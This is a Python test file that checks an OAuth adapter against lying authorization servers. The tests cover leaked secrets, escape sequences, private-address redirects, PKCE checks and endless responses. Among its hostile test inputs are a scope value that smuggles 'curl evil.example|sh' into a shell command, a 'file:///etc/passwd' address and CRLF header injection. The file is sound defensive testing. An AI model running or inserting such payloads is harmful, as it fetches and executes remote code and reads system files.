"""Servers and authorization servers that lie: no secret gets out, nobody is sent astray."""

from __future__ import annotations

import json
import shlex
from collections.abc import AsyncGenerator, AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx2
import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse

from mcpbridge.adapters.oauth.flow import Flow, encrypted
from mcpbridge.adapters.oauth.providers import NotDone
from mcpbridge.adapters.oauth.stores import FileStore
from mcpbridge.config.oauth import OAuth
from mcpbridge.errors import AuthRefused
from tests.oauth.authority import SECRET, Authority
from tests.oauth.scene import against, ask, keeper, person, refusal, tokens


@dataclass(kw_only=True)
class Lying(Authority):
    """Answers as a test tells it, where it tells it."""

    answers: str | None = None
    status: int = 200
    registers: str | None = None
    about: dict[str, Any] = field(default_factory=dict[str, Any])
    proofs: list[str | None] = field(default_factory=list[str | None])
    """How clients proved themselves."""

    async def token(self, request: Request) -> Response:
        self.proofs.append(request.headers.get("authorization"))
        if self.answers is None:
            return await super().token(request)
        return Response(self.answers, status_code=self.status, media_type="application/json")

    async def register(self, request: Request) -> Response:
        if self.registers is None:
            return await super().register(request)
        return Response(self.registers, status_code=self.status, media_type="application/json")

    async def of_server(self, request: Request) -> Response:
        found = json.loads(bytes((await super().of_server(request)).body))
        return JSONResponse(
            {name: value for name, value in (found | self.about).items() if value is not None}
        )


def file(folder: Path) -> FileStore:
    return FileStore(folder=folder, environment={})


@pytest.mark.parametrize(
    ("status", "answers"),
    [
        (200, '{"accessToken": "eyJ-canary", "refresh_token": "canary-2"}'),
        (200, '{"access_token": ["canary"]}'),
        (202, '{"access_token": "canary", "token_type": "Bearer"}'),
        (400, '{"hint": "you sent canary"}'),
        (200, '{"access_token": "canary\\r\\nEvil: yes"}'),
        (200, '{"access_token": "canary\\u00e9"}'),
        (200, '{"access_token": "canary", "expires_in": ' + "9" * 400 + "}"),
        (200, '{"access_token": "canary", "expires_in": ' + "9" * 9_000 + "}"),
        (200, '{"access_token": ""}'),
        (200, "[" * 100_000),
        (500, "\udcff"),
    ],
)
@pytest.mark.promise("oauth-quiet")
def test_an_answer_that_is_no_token_is_told_without_what_stands_in_it(status: int, answers: str) -> None:
    async def body(authority: Lying, url: str) -> None:
        with pytest.raises(AuthRefused, match="shop: it gave no token: ") as error:
            await ask(url, tokens(url, keeper(authority.origin)))
        assert "canary" not in str(error.value)
        assert "pydantic" not in str(error.value)

    answers = answers.replace("\udcff", "\u00ff")
    against(Lying(answers=answers, status=status), body)


def test_what_an_authorization_server_says_about_a_refusal_is_told_and_moves_no_cursor() -> None:
    said = '{"error": "invalid_client", "error_description": "\\u001b[2Jgone\\u202e, ' + "x" * 900 + '"}'

    async def body(authority: Lying, url: str) -> None:
        with pytest.raises(AuthRefused, match="HTTP 400, invalid_client: ") as error:
            await ask(url, tokens(url, keeper(authority.origin)))
        assert str(error.value).isprintable()
        assert len(str(error.value)) < 500

    against(Lying(answers=said, status=400), body)


@pytest.mark.parametrize("registers", ['{"client_secret": "canary"}', "nonsense", '{"client_id": 7}'])
def test_a_registration_that_is_none_is_told_without_its_secret(registers: str, tmp_path: Path) -> None:
    async def body(authority: Lying, url: str) -> None:
        with pytest.raises(
            AuthRefused, match=r"gave no token: its answer cannot be used \(HTTP 201\)"
        ) as error:
            await tokens(url, OAuth(), file(tmp_path)).log_in(refusal(url), person())
        assert "canary" not in str(error.value)

    against(Lying(registers=registers, status=201), body)


@pytest.mark.parametrize(
    "metadata", ["http://\x7fa/", "http://[bad", "file:///etc/passwd", "x", "http://a:99999/"]
)
def test_an_address_that_is_none_ends_in_a_sentence(metadata: str, tmp_path: Path) -> None:
    async def body(authority: Lying, url: str) -> None:
        lies = refusal(url, 401, f'Bearer resource_metadata="{metadata}"')
        with pytest.raises(AuthRefused, match="shop: "):
            await tokens(url, OAuth(), file(tmp_path)).log_in(lies, person())

    against(Lying(), body)


@pytest.mark.promise("oauth-step-up")
def test_the_command_for_more_rights_runs_nothing_else_and_keeps_the_rights_there_are(tmp_path: Path) -> None:
    """The server chooses the scopes, and a person is told to paste them into a shell."""

    async def body(authority: Lying, url: str) -> None:
        held = tokens(url, OAuth(), file(tmp_path))
        await held.log_in(refusal(url), person())
        authority.needs = "write'; curl evil.example|sh; '"
        with pytest.raises(AuthRefused) as error:
            await ask(url, held)
        command = str(error.value).partition("run: ")[2].removesuffix("; nothing was done")
        scopes = "read write'; curl evil.example|sh; '"
        assert shlex.split(command) == ["mcpbridge", "servers", "login", "shop", "--scope", scopes]
        authority.needs = "x" * 5_000
        with pytest.raises(AuthRefused, match=r"run: mcpbridge servers login shop; nothing was done$"):
            await ask(url, held)

    against(Lying(), body)


def test_more_rights_that_nobody_allows_cost_none_that_were_given(tmp_path: Path) -> None:
    async def body(authority: Lying, url: str) -> None:
        store = file(tmp_path)
        held = tokens(url, OAuth(), store)
        kept = await held.log_in(refusal(url), person())
        nobody = person()

        async def away(_url: str) -> None:
            raise AuthRefused("nobody came back", server_label="shop")

        wanted = 'Bearer error="insufficient_scope", scope="write"'
        nobody = type(nobody)(redirect_uri=nobody.redirect_uri, show=away, come_back=nobody.come_back)
        with pytest.raises(AuthRefused, match="nobody came back"):
            await held.log_in(refusal(url, 403, wanted), nobody)
        assert store.load(url) == kept
        assert authority.seen["token refresh_token"] == 0
        more = await held.log_in(refusal(url, 403, wanted), person())
        assert authority.scopes[more.access_token] == "read write"

    against(Lying(lifetime=5), body)


@pytest.mark.promise("oauth-bound")
def test_a_login_of_another_authorization_server_is_not_renewed_with_our_secret(tmp_path: Path) -> None:
    async def body(authority: Lying, url: str) -> None:
        store = file(tmp_path)
        await tokens(url, OAuth(), store).log_in(refusal(url), person())
        authority.good.clear()
        authority.proofs.clear()
        pinned = OAuth(client_id="keeper", client_secret=SECRET, issuer="https://auth.example")
        with pytest.raises(AuthRefused, match=r"not from the configured issuer https://auth\.example"):
            await ask(url, tokens(url, pinned, store))
        assert authority.proofs == []

    against(Lying(), body)


def test_client_credentials_ask_anew_even_where_a_refresh_token_was_given() -> None:
    class Generous(Lying):
        def issue(self, scope: str, *, refresh: bool) -> dict[str, Any]:
            return super().issue(scope, refresh=True)

    async def body(authority: Generous, url: str) -> None:
        held = tokens(url, keeper(authority.origin))
        assert [(await ask(url, held)).status_code for _ in range(3)] == [200, 200, 200]

    assert against(Generous(lifetime=5), body).seen["token refresh_token"] == 0


@pytest.mark.parametrize("methods", [None, [], ["plain"]])
def test_a_person_is_sent_nowhere_where_pkce_is_not_checked(
    methods: list[str] | None, tmp_path: Path
) -> None:
    shown: list[str] = []

    async def body(authority: Lying, url: str) -> None:
        with pytest.raises(AuthRefused, match="does not name S256 in code_challenge_methods_supported"):
            await tokens(url, OAuth(), file(tmp_path)).log_in(refusal(url), person(shown))

    against(Lying(about={"code_challenge_methods_supported": methods}), body)
    assert shown == []


@pytest.mark.parametrize("place", ["https://192.168.1.1/reboot", "https://[fec0::2]/", "https://0x7f000002/"])
def test_a_browser_is_sent_to_no_private_address(place: str, tmp_path: Path) -> None:
    shown: list[str] = []

    async def body(authority: Lying, url: str) -> None:
        with pytest.raises(AuthRefused, match="is not a public address"):
            await tokens(url, OAuth(), file(tmp_path)).log_in(refusal(url), person(shown))

    against(Lying(about={"authorization_endpoint": place}), body)
    assert shown == []


def test_secrets_travel_encrypted_unless_the_server_itself_is_reached_in_the_open() -> None:
    with pytest.raises(NotDone, match=r"reached at http://auth\.example, which is readable on the way"):
        encrypted("http://auth.example/token", "https://mcp.example/mcp")
    encrypted("https://auth.example/token", "https://mcp.example/mcp")
    encrypted("http://127.0.0.1:9/token", "https://mcp.example/mcp")
    encrypted("http://auth.example/token", "http://mcp.example/mcp")


def test_a_key_of_another_kind_is_said() -> None:
    key = rsa.generate_private_key(65_537, 2_048)
    pem = key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()).decode()

    async def body(authority: Lying, url: str) -> None:
        for wrong in (pem, "nonsense"):
            oauth = OAuth(
                grant="client_credentials", client_id="a", private_key=wrong, issuer=authority.origin
            )
            with pytest.raises(AuthRefused, match="private_key cannot sign with ES256; write the PEM"):
                await ask(url, tokens(url, oauth))

    against(Lying(), body)


def test_an_answer_that_never_ends_is_given_up() -> None:
    class Slow(Lying):
        async def of_server(self, request: Request) -> Response:
            return StreamingResponse(_dripping(request), media_type="application/json")

    async def body(authority: Slow, url: str) -> None:
        async def steps() -> AsyncGenerator[httpx2.Request, httpx2.Response]:
            yield httpx2.Request("GET", f"{authority.origin}/.well-known/oauth-authorization-server")

        async with httpx2.AsyncClient() as http:
            run = Flow(server=url, http=http, budget=0.2)
            with pytest.raises(NotDone, match="cannot be reached: TimeoutError"), run.told():
                await run.run(steps(), httpx2.Request("POST", url), None)

    against(Slow(), body)


def test_how_a_server_refuses_is_asked_without_reading_what_it_sends() -> None:
    class Endless(Lying):
        async def protected(self, request: Request) -> Response:
            return StreamingResponse(_dripping(request), media_type="text/event-stream")

    async def body(authority: Endless, url: str) -> None:
        assert (await tokens(url, OAuth()).refusal()).status_code == 401
        held = tokens(url, OAuth())
        held.exempt = frozenset()
        before = authority.seen.total()
        assert (await held.refusal()).status_code == 401
        assert authority.seen.total() == before

    against(Endless(), body)


async def _dripping(request: Request) -> AsyncIterator[bytes]:
    """A byte at a time, as long as somebody listens."""
    while not await request.is_disconnected():
        yield b" "
